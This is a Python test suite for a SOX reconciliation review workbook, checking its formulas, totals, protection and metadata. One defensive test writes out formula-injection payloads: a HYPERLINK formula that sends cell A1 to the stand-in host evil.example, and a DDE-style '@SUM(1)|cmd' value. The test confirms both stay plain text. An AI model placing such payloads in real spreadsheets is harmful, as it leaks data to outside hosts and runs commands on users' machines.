"""The review workbook: its formulas are the product's figures, its texts are texts."""

from __future__ import annotations

import io
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from openpyxl.workbook import Workbook

from soxauto_assets.reconciliation.review import drilldown
from soxauto_assets.reconciliation.review.items import items
from soxauto_assets.reconciliation.review.reviewed import Reviewed
from soxauto_assets.reconciliation.review.workbook import workbook
from soxauto_assets_tests.reconciliation.review.controls import ADDRESS, MANIFEST, colourful
from soxauto_assets_tests.support import parts

CENT = Decimal("0.005")


@pytest.fixture(scope="module")
def control() -> Reviewed:
    return colourful()


@pytest.fixture(scope="module")
def written(control: Reviewed) -> bytes:
    return workbook(control, {})


def opened(content: bytes, *, values: bool = False) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(content), data_only=values)


def formulas(book: Workbook) -> Iterator[tuple[str, str]]:
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield sheet.title, cell.coordinate


def table(book: Workbook, sheet: str, header: int) -> list[dict[str, Any]]:
    rows = book[sheet].iter_rows(min_row=header, values_only=True)
    names = next(rows)
    return [dict(zip(names, row, strict=True)) for row in rows if any(row)]


def test_the_control_under_review_has_every_status(control: Reviewed) -> None:
    statuses = {line["status"] for line in control.lines}
    assert statuses == {"RECONCILED", "EXPLAINED", "TO INVESTIGATE", "INCOMPLETE"}
    assert control.unexplained_usd >= control.group_threshold


def test_libreoffice_calculates_every_formula_to_the_figure_of_the_product(
    written: bytes, tmp_path: Path
) -> None:
    office = parts.need("libreoffice")
    typed = opened(written)
    source = tmp_path / "review.xlsx"
    typed.save(source)  # openpyxl drops the stored values, so that there is nothing to repeat
    stripped = opened(source.read_bytes(), values=True)
    assert {stripped[sheet][cell].value for sheet, cell in formulas(typed)} == {None}
    subprocess.run(
        [
            office,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            tmp_path / "calculated",
            source,
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    calculated = opened((tmp_path / "calculated/review.xlsx").read_bytes(), values=True)
    ours = opened(written, values=True)
    compared = 0
    for sheet, cell in formulas(typed):
        expected, found = ours[sheet][cell].value, calculated[sheet][cell].value
        if isinstance(expected, int | float):
            assert abs(Decimal(str(found)) - Decimal(str(expected))) < CENT, (sheet, cell)
        else:
            assert (found or "") == (expected or ""), (sheet, cell)
        compared += 1
    assert compared > 700


def test_the_lines_are_those_of_the_summary(control: Reviewed, written: bytes) -> None:
    rows = table(opened(written, values=True), "Lines", 3)
    assert [(row["Company"], row["Accounts"], row["Status"]) for row in rows] == [
        (line["company"], line["pool"], line["status"]) for line in control.lines
    ]
    for name, column in (
        ("Ledger", "balance"),
        ("Expected", "expected"),
        ("Variance", "variance"),
        ("Unexplained", "unexplained"),
        ("Unexplained, USD", "unexplained_usd"),
    ):
        for row, line in zip(rows, control.lines, strict=True):
            known = line[column]
            assert (row[name] or None) == (None if known is None else float(known) or None)


def test_totals_are_those_of_the_summary(control: Reviewed, written: bytes) -> None:
    sheet = opened(written, values=True)["Summary"]
    facts = {row[0]: row[1] for row in sheet.iter_rows(4, 9, values_only=True)}
    variances = [
        line["variance"] / line["rate"]
        for line in control.lines
        if line["variance"] is not None and line["rate"] is not None
    ]
    assert facts == {
        "Status of the month": "INCOMPLETE",
        "Variance, USD": float(round(sum(variances), 2)),
        "Unexplained, absolute, USD": float(round(control.unexplained_usd, 2)),
        "Group threshold, USD": 10_000,
        "Answers needed": 3,
        "Answers still needed": 3,
    }
    assert [item.id for item in items(control) if item.needed] == [
        "group",
        "line/EC_KE/18350",
        "line/EC_NG/18412",
    ]


def test_the_proof_of_a_bridge_adds_up_to_its_amount_on_the_lines(written: bytes) -> None:
    rows = table(opened(written, values=True), "Bridges", 4)
    (timing,) = (row for row in rows if row["Company"] == "EC_KE")
    assert timing["Proof rows"] == 1
    assert timing["Sum of the proof, LCY"] == timing["On Lines, LCY"] == 250_000
    assert timing["Difference"] == 0


def test_a_sheet_that_cannot_take_all_rows_shows_the_greatest_and_adds_up_the_rest(
    control: Reviewed, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(drilldown, "MOST_ROWS", 2)
    proof = control.tables["bridge_timing"]
    amounts = [Decimal(5), Decimal(-9), Decimal(1), Decimal(2)]
    rows = pl.concat([proof] * 4).with_columns(pl.Series("amount", amounts, proof.schema["amount"]))
    small = replace(control, tables={**control.tables, "bridge_timing": rows})
    sheet = opened(workbook(small, {}), values=True)["Timing"]
    shown = [row[2:4] for row in sheet.iter_rows(min_row=4, values_only=True)]
    assert shown == [
        ("voucher 1", -9),
        ("voucher 1", 5),
        ("2 more rows: see the package", 3),
    ]


def test_a_text_that_looks_like_a_formula_stays_a_text(control: Reviewed) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    line = {**control.lines[0], "status": "INCOMPLETE", "missing": hostile}
    bad = replace(control, lines=(line, *control.lines[1:]), who="@SUM(1)|cmd")
    book = opened(workbook(bad, {}))
    found = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and ("evil.example" in cell.value or "@SUM" in cell.value)
    ]
    assert len(found) == 3
    assert {(cell.data_type, cell.quotePrefix, cell.hyperlink) for cell in found} == {
        ("s", True, None)
    }


def test_only_the_answers_can_be_typed_over(written: bytes) -> None:
    book = opened(written)
    unlocked = set()
    for sheet in book:
        assert sheet.protection.sheet
        for row in sheet.iter_rows():
            unlocked |= {(sheet.title, c.column) for c in row if not c.protection.locked}
    headers = {cell.column: cell.value for cell in book["Review"][5]}
    assert {(sheet, headers[column]) for sheet, column in unlocked} == {
        ("Review", name) for name in ("Owner", "Explanation", "Action", "Due date")
    }


def test_it_names_what_was_reviewed_to_people_and_to_programs(written: bytes) -> None:
    book = opened(written)
    notes = {row[0]: row[1] for row in book["Notes"].iter_rows(4, 7, 1, 2, values_only=True)}
    names = book.custom_doc_props.names
    assert list(notes.values()) == ["soxauto-review-1", "2024-09", ADDRESS.attempt, MANIFEST]
    assert {n: book.custom_doc_props[n].value for n in names} == {
        "soxauto.format": "soxauto-review-1",
        "soxauto.period": "2024-09",
        "soxauto.attempt": ADDRESS.attempt,
        "soxauto.manifest_sha256": MANIFEST,
    }
    assert MANIFEST in str(book["Summary"]["A2"].value)


def test_the_same_control_gives_the_same_bytes(control: Reviewed, written: bytes) -> None:
    assert workbook(control, {}) == written
